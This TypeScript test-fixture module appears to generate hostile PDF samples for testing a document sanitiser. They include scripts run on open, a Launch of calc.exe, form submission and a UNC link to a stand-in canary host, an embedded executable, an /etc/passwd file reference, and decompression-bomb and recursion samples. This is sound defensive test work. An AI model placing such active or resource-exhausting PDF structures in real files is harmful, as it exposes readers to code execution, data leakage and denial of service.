import { deflateSync } from 'node:zlib'
import { bomb, CANARY, type HostileFile } from './hostile-file.ts'
import { latin, pdf, stream } from './pdf.ts'

/** The content of a page: words in a font that every reader has. */
const WORDS = stream('', latin('BT /F 24 Tf 72 700 Td (Estado de cuenta) Tj ET'))
const FONT = '/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>'
const PAGES = '<</Type/Pages/Count 1/Kids[3 0 R]>>'
const page = (about = '') => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R${FONT}${about}>>`

/** A paper of one page, with something that a paper doesn't need. */
const paper = (catalog: string, pageToo = '', ...objects: (Buffer | string)[]) =>
  pdf(`<</Type/Catalog/Pages 2 0 R${catalog}>>`, PAGES, page(pageToo), WORDS, ...objects)

const CODE = `(app.alert\\("${CANARY}"\\))`
const SCRIPT = `<</S/JavaScript/JS${CODE}>>`
const LINK = '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]'

/** Papers that read well, and would do something where they are opened if they were kept as they came. */
export const ACTIVE_PAPERS: Record<string, () => Buffer> = {
  'scripts when it opens, by name, on its page': () =>
    paper(
      `/OpenAction${SCRIPT}/AA<</WC${SCRIPT}>>/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>`,
      `/AA<</O${SCRIPT}>>`,
    ),
  'a program that it starts': () =>
    paper('/OpenAction<</S/Launch/F(calc.exe)>>', `${LINK}/A<</S/Launch/F(${CANARY}.exe)>>>>]`),
  'a link over all of its page': () => paper('', `${LINK}/A<</S/URI/URI(https://${CANARY}.example/)>>>>]`),
  'another document that it opens': () =>
    paper('', `${LINK}/A<</S/GoToR/F(\\\\\\\\${CANARY}\\\\share\\\\x.pdf)/D[0/Fit]>>>>]`),
  'a file in it': () =>
    paper(
      '/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>]>>>>',
      '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 40 40]/FS<</F(a.exe)/EF<</F 5 0 R>>>>>>]',
      stream('/Type/EmbeddedFile', latin(CANARY)),
    ),
  'a form that is sent away': () =>
    paper(
      '/AcroForm<</Fields[5 0 R]/DA(/Helv 12 Tf 0 g)>>',
      '/Annots[5 0 R]',
      `<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(b)/Rect[0 0 99 40]/A<</S/SubmitForm/F(https://${CANARY}.example)>>>>`,
    ),
  'a form of XFA': () =>
    paper(
      '/AcroForm<</Fields[]/XFA 5 0 R>>/NeedsRendering true',
      '',
      stream('', latin(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${CANARY}</script></xdp:xdp>`)),
    ),
  'a film in it': () =>
    paper(
      '',
      '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 99 99]/RichMediaContent<</Assets<</Names[(a)5 0 R]>>>>>>]',
      stream('', latin(CANARY)),
    ),
  'notes of its writer and its computer': () =>
    paper(
      '/Metadata 5 0 R/Lang(es)/PieceInfo<</Private(canario)>>',
      '',
      stream('/Type/Metadata/Subtype/XML', latin(`<x:xmpmeta>${CANARY}</x:xmpmeta>`)),
    ),
  'a stream in another file': () => paper('', '', '<</Length 0/F(/etc/passwd)>>'),
}

const many = (count: number) =>
  pdf(
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Count ${count}/Kids[${'3 0 R '.repeat(count)}]>>`,
    page(),
    WORDS,
  )

const content = (text: string) =>
  pdf(
    '<</Type/Catalog/Pages 2 0 R>>',
    PAGES,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>`,
    stream('', latin(text)),
  )

const sized = (box: string) =>
  pdf(
    '<</Type/Catalog/Pages 2 0 R>>',
    PAGES,
    `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R>>`,
    WORDS,
  )

/** A paper that asks for a password: what opens it isn't in it. */
export const protectedPaper = (): Buffer => {
  const whole = paper('').toString('latin1')
  const locked = `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'ab'.repeat(32)}>/U<${'cd'.repeat(32)}>>>/ID[<00><00>]`
  return latin(whole.replace('trailer<<', `trailer<<${locked}`))
}

/** Papers that would take a machine's time or memory, or lead a reader in circles. */
export const HEAVY_PAPERS: Record<string, () => Buffer> = {
  '5,000 pages': () => many(5_000),
  'a page of 14 kilometres': () => sized('0 0 40000000 40000000'),
  'a page without a width': () => sized('0 0 0 792'),
  'a page of two million to one': () => sized('0 0 2000000 1'),
  'a page that draws itself': () =>
    pdf(
      '<</Type/Catalog/Pages 2 0 R>>',
      PAGES,
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>',
      stream('', latin('/X Do')),
      stream(
        '/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X 5 0 R>>>>',
        latin('/X Do /X Do'),
      ),
    ),
  'a picture of 40,000 × 40,000': () =>
    pdf(
      '<</Type/Catalog/Pages 2 0 R>>',
      PAGES,
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>',
      stream('', latin('q 612 0 0 792 0 0 cm /I Do Q')),
      stream(
        '/Type/XObject/Subtype/Image/Width 40000/Height 40000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode',
        bomb(100),
      ),
    ),
  'a pattern of a billion tiles': () =>
    pdf(
      '<</Type/Catalog/Pages 2 0 R>>',
      PAGES,
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Pattern<</P 5 0 R>>>>>>',
      stream('', latin('/Pattern cs /P scn 0 0 612 792 re f')),
      stream(
        '/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.02/YStep 0.02/Resources<<>>',
        latin('0 0 1 1 re f'),
      ),
    ),
  'a state saved 500,000 times': () => content('q '.repeat(500_000)),
  'words packed to a thousandth': () =>
    pdf(
      '<</Type/Catalog/Pages 2 0 R>>',
      PAGES,
      page(),
      stream('/Filter/FlateDecode', deflateSync(Buffer.alloc(60e6, '0 0 m 9 9 l S '))),
    ),
  'the half of a paper': () => {
    const whole = paper('')
    return whole.subarray(0, whole.length / 2)
  },
  'a password': protectedPaper,
}

/** The papers that take a core for seconds. */
const LONG = new Set([
  'a page that draws itself',
  'a picture of 40,000 × 40,000',
  'a pattern of a billion tiles',
  'words packed to a thousandth',
])

export const HOSTILE_PAPERS: HostileFile[] = Object.entries({ ...ACTIVE_PAPERS, ...HEAVY_PAPERS }).map(
  ([name, make]) => ({
    name: `PDF with ${name}`,
    as: 'document',
    make,
    ...(LONG.has(name) && { heavy: true }),
  }),
)
